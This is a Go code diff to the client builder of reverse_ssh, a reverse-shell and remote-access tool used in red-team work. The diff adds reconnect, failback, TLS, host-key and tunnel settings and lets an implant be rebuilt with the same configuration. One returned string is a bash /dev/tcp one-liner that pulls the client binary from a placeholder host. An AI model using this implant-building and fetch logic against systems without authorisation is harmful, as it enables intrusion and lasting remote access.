@@ -14,6 +14,7 @@ import (
 
 	"github.com/NHAS/reverse_ssh/internal"
 	"github.com/NHAS/reverse_ssh/internal/server/data"
+	"github.com/NHAS/reverse_ssh/internal/server/hostkeys"
 	"github.com/NHAS/reverse_ssh/pkg/logger"
 	"github.com/NHAS/reverse_ssh/pkg/trie"
 	"golang.org/x/crypto/ssh"
@@ -33,7 +34,7 @@ type BuildConfig struct {
 
 	GOOS, GOARCH, GOARM string
 
-	ConnectBackAdress, Fingerprint string
+	ConnectBackAdress, Fingerprint, HostCA string
 
 	Proxy, SNI, LogLevel string
 
@@ -49,6 +50,17 @@ type BuildConfig struct {
 	WorkingDirectory string
 
 	NTLMProxyCreds string
+
+	Failback string
+
+	ReconnectPolicy string
+
+	TLSVerify string
+
+	// Comma separated client capabilities to disable
+	Disabled string
+
+	TunPolicy string
 }
 
 func Build(config BuildConfig) (string, error) {
@@ -64,8 +76,16 @@ func Build(config BuildConfig) (string, error) {
 		return "", fmt.Errorf("GOOS supplied is not valid: " + config.GOOS)
 	}
 
+	// Kept as given, so a client built from the record later trusts the server keys of that time rather than these
+	givenFingerprint, givenHostCA := config.Fingerprint, config.HostCA
+
 	if len(config.Fingerprint) == 0 {
-		config.Fingerprint = defaultFingerPrint
+		// Trust the next key as well (if there is one) so the client survives the server key being rotated
+		config.Fingerprint = strings.Join(hostkeys.Fingerprints(), ",")
+	}
+
+	if len(config.HostCA) == 0 {
+		config.HostCA = hostkeys.Authority()
 	}
 
 	if config.UPX {
@@ -88,6 +108,20 @@ func Build(config BuildConfig) (string, error) {
 	f.WorkingDirectory = config.WorkingDirectory
 	f.CallbackAddress = config.ConnectBackAdress
 
+	f.Owners = config.Owners
+	f.Comment = config.Comment
+	f.Disabled = config.Disabled
+	f.TunPolicy = config.TunPolicy
+	f.Fingerprint = givenFingerprint
+	f.HostCA = givenHostCA
+	f.Proxy = config.Proxy
+	f.SNI = config.SNI
+	f.NTLMProxyCreds = config.NTLMProxyCreds
+	f.UseKerberos = config.UseKerberosAuth
+	f.Failback = config.Failback
+	f.ReconnectPolicy = config.ReconnectPolicy
+	f.TLSVerify = config.TLSVerify
+
 	filename, err := internal.RandomString(16)
 	if err != nil {
 		return "", err
@@ -156,6 +190,7 @@ func Build(config BuildConfig) (string, error) {
 	}
 
 	publicKeyBytes := ssh.MarshalAuthorizedKey(sshPriv.PublicKey())
+	f.KeyFingerprint = internal.FingerprintSHA1Hex(sshPriv.PublicKey())
 
 	err = os.WriteFile(filepath.Join(projectRoot, "internal/client/keys/private_key.pub"), publicKeyBytes, 0600)
 	if err != nil {
@@ -167,7 +202,7 @@ func Build(config BuildConfig) (string, error) {
 		return "", err
 	}
 
-	buildArguments = append(buildArguments, fmt.Sprintf("-ldflags=-s -w -X main.logLevel=%s -X main.destination=%s -X main.fingerprint=%s -X main.proxy=%s -X main.customSNI=%s -X main.useKerberosStr=%t -X main.ntlmProxyCreds=%s -X github.com/NHAS/reverse_ssh/internal.Version=%s", config.LogLevel, config.ConnectBackAdress, config.Fingerprint, config.Proxy, config.SNI, config.UseKerberosAuth, config.NTLMProxyCreds, strings.TrimSpace(f.Version)))
+	buildArguments = append(buildArguments, fmt.Sprintf("-ldflags=-s -w -X main.logLevel=%s -X main.destination=%s -X main.fingerprint=%s -X main.proxy=%s -X main.customSNI=%s -X main.useKerberosStr=%t -X main.ntlmProxyCreds=%s -X main.failback=%s -X main.reconnect=%s -X main.tlsVerify=%s -X main.hostCA=%s -X main.disable=%s -X main.tunPolicy=%s -X github.com/NHAS/reverse_ssh/internal.Version=%s", config.LogLevel, config.ConnectBackAdress, config.Fingerprint, config.Proxy, config.SNI, config.UseKerberosAuth, config.NTLMProxyCreds, config.Failback, config.ReconnectPolicy, config.TLSVerify, config.HostCA, config.Disabled, config.TunPolicy, strings.TrimSpace(f.Version)))
 	buildArguments = append(buildArguments, "-o", f.FilePath, filepath.Join(projectRoot, "/cmd/client"))
 
 	cmd := exec.Command(buildTool, buildArguments...)
@@ -266,7 +301,14 @@ func Build(config BuildConfig) (string, error) {
 
 	if config.RawDownload {
 
-		host, port, err := net.SplitHostPort(f.CallbackAddress)
+		// Only the preferred address is used to fetch the binary
+		callback, _, _ := strings.Cut(f.CallbackAddress, ",")
+		callback, _, _ = strings.Cut(callback, "?")
+		if _, after, found := strings.Cut(callback, "://"); found {
+			callback = after
+		}
+
+		host, port, err := net.SplitHostPort(callback)
 		if err != nil {
 			return fmt.Sprintf(`bash -c "exec 3<>/dev/tcp/HOSTHERE/PORT_HERE; echo RAW%[1]s>&3; cat <&3" > %[1]s`, config.Name), nil
 		}
@@ -277,6 +319,31 @@ func Build(config BuildConfig) (string, error) {
 	return "http://" + DefaultConnectBack + "/" + config.Name, nil
 }
 
+// ConfigOf returns the settings a client was built with, for building a replacement that keeps them. Build options like upx or garble are not kept
+func ConfigOf(download data.Download) BuildConfig {
+	return BuildConfig{
+		GOOS:              download.Goos,
+		GOARCH:            download.Goarch,
+		GOARM:             download.Goarm,
+		ConnectBackAdress: download.CallbackAddress,
+		LogLevel:          download.LogLevel,
+		WorkingDirectory:  download.WorkingDirectory,
+		Owners:            download.Owners,
+		Comment:           download.Comment,
+		Disabled:          download.Disabled,
+		TunPolicy:         download.TunPolicy,
+		Fingerprint:       download.Fingerprint,
+		HostCA:            download.HostCA,
+		Proxy:             download.Proxy,
+		SNI:               download.SNI,
+		NTLMProxyCreds:    download.NTLMProxyCreds,
+		UseKerberosAuth:   download.UseKerberos,
+		Failback:          download.Failback,
+		ReconnectPolicy:   download.ReconnectPolicy,
+		TLSVerify:         download.TLSVerify,
+	}
+}
+
 func startBuildManager(_cachePath string) error {
 
 	clientSource := filepath.Join(projectRoot, "/cmd/client")